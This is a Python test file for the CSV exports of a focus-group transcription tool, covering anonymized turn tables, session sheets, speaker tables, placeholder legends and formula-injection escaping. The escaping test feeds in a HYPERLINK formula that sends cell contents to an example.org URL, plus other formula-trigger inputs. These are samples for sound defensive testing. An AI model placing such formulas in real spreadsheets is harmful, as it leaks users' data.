"""Tables: one row per thing, safe to open, no dates, no more about people than coders need."""

from __future__ import annotations

import csv
import io
import re

import pytest
import releases
from hypothesis import given
from hypothesis import strategies as st

from facilitator.exports import csv as csv_exporter
from facilitator.exports import legend, session_sheet, speaker_table
from facilitator.exports.tables import cell, table
from facilitator.model import Attendance, Role
from transcription.model import Kind

BOM = b"\xef\xbb\xbf"


def rows(file):
    assert file.data.startswith(BOM)
    return list(csv.DictReader(io.StringIO(file.data.decode("utf-8-sig"), newline="")))


def only(files):
    assert len(files) == 1
    return files[0]


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ('=HYPERLINK("https://example.org/?"&A1)', '\'=HYPERLINK("https://example.org/?"&A1)'),
        ("+1 for that", "'+1 for that"),
        ("- no", "'- no"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "' =1+1"),
        ("\r=1+1", "' =1+1"),
        ("\n=1+1", "' =1+1"),
        ("  =1+1", "'  =1+1"),
        ("\ufeff=1+1", "'=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20a", "'\uff20a"),
        # Look-alikes that no spreadsheet runs stay as they were said.
        ("1+1=2", "1+1=2"),
        ("a - b", "a - b"),
        ("me@example.org", "me@example.org"),
        ("\u2013 no", "\u2013 no"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_cannot_be_run_as_a_formula(said, written):
    assert cell(said) == written


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_every_cell_of_a_table_comes_back_on_one_line_and_harmless(cells):
    read = list(
        csv.reader(io.StringIO(table(["head"] * len(cells), [cells]).decode("utf-8-sig"), newline=""))
    )
    assert len(read) == 2
    for said, written in zip(cells, read[1], strict=True):
        assert (
            releases.bare(written) == releases.bare(said.encode("utf-8", "replace").decode())
            or "\ufffd" in written
        )
        assert not re.match(r"[=+\-@\t\r\n]", written)
        assert "\n" not in written


def test_turns_have_a_row_each_with_everything_a_program_needs():
    found = rows(only(csv_exporter.exporter.files(releases.release(releases.session(releases.talk())))))
    assert [row["turn"] for row in found] == ["1", "2", "3", "4", "5", "6"]
    assert found[1] == {
        "session": "FG1",
        "turn": "2",
        "speaker": "P01",
        "kind": "speech",
        "start": "00:00:29.000",
        "end": "00:00:49.000",
        "question": "Question 1. What comes first, time or money?",
        "text": "[PERSON-1, a colleague] helped me. Marta knew [ORG-1].",
        "status": "released",
        "convention": "intelligent-verbatim 1",
        "quotable": "yes",
    }
    assert (found[3]["kind"], found[3]["end"]) == ("chat", "")
    assert found[3]["text"].startswith("the link is here")


def test_speech_of_several_sessions_stands_in_one_table():
    two = releases.release(releases.session(releases.talk()), releases.session(releases.talk(), "FG2"))
    assert [row["session"] for row in rows(only(csv_exporter.exporter.files(two)))] == ["FG1"] * 6 + [
        "FG2"
    ] * 6


def test_the_session_sheet_says_who_was_there_how_long_and_in_what_order():
    one, two = releases.session(releases.talk()), releases.session(releases.talk(), "FG2", "staff")
    found = rows(only(session_sheet.exporter.files(releases.release(one, two))))
    first = [row for row in found if row["session"] == "FG1"]
    assert [row["label"] for row in first] == ["Moderator", "A1", "P01", "P02", "P10", "S1", "Speaker 2"]
    assert first[0] | {} == {
        "session": "FG1",
        "session_number": "1",
        "group": "students",
        "guide": "seed",
        "language": "en",
        "minutes": "62",
        "moderator": "Moderator",
        "label": "Moderator",
        "id": "M1",
        "role": "moderator",
        "presence": "present",
        "first_turn": "1",
        "status": "released",
    }
    assert {row["label"]: (row["presence"], row["first_turn"]) for row in first} == {
        "Moderator": ("present", "1"),
        "A1": ("present", ""),
        "P01": ("present", "2"),
        "P02": ("late", "3"),
        "P10": ("absent", ""),
        "S1": ("", "4"),
        "Speaker 2": ("", "6"),
    }
    assert {row["session_number"] for row in found if row["session"] == "FG2"} == {"2"}


def test_no_table_holds_a_date_or_a_length_to_the_second():
    release = releases.release(releases.session(releases.talk()))
    for exporter in (session_sheet.exporter, speaker_table.exporter, legend.exporter):
        text = only(exporter.files(release)).data.decode()
        assert not re.search(r"\d{4}-\d\d-\d\d|3725|\d\d:\d\d", text)


def test_speakers_are_keyed_by_the_label_of_the_transcripts():
    other = (Attendance("M2", Role.MODERATOR), Attendance("P01", Role.PARTICIPANT))
    again = releases.anonymized([releases.turn("Hm.", 0, "M2"), releases.turn("Ah.", 1, "P01")])
    release = releases.release(
        releases.session(releases.talk()), releases.session(again, "FG2", "staff", other)
    )
    found = {row["speaker"]: row for row in rows(only(speaker_table.exporter.files(release)))}
    assert list(found) == ["A1", "P01", "P02", "P10", "S1", "Speaker 2", "Moderator", "Moderator 2"]
    assert found["P01"] == {
        "speaker": "P01",
        "id": "P01",
        "group": "students, staff",
        "role": "participant",
        "sessions": "FG1, FG2",
        "status": "released",
        "quotable": "yes",
    }
    assert (found["Moderator 2"]["id"], found["Moderator 2"]["group"]) == ("M2", "")
    assert found["Speaker 2"]["role"] == "not on the session's list"


def test_the_legend_counts_each_placeholder_and_tells_its_meaning():
    turns = [releases.turn("Ask Marta, ask Jordan, ask Kim.", 0), releases.turn("Marta again.", 1)]
    text = releases.anonymized(
        turns,
        [
            (0, "Marta", Kind.PERSON, "marta"),
            (1, "Marta", Kind.PERSON, "marta"),
            (0, "Jordan", Kind.PARTICIPANT, "P02"),
            (0, "Kim", Kind.PARTICIPANT, "M1"),
        ],
        {"marta": "a colleague"},
    )
    found = rows(only(legend.exporter.files(releases.release(releases.session(text)))))
    assert [(row["placeholder"], row["kind"], row["meaning"], row["count"]) for row in found] == [
        ("[M1]", "participant", "speaker Moderator", "1"),
        ("[P02]", "participant", "speaker P02", "1"),
        ("[PERSON-1]", "person", "a colleague", "2"),
    ]
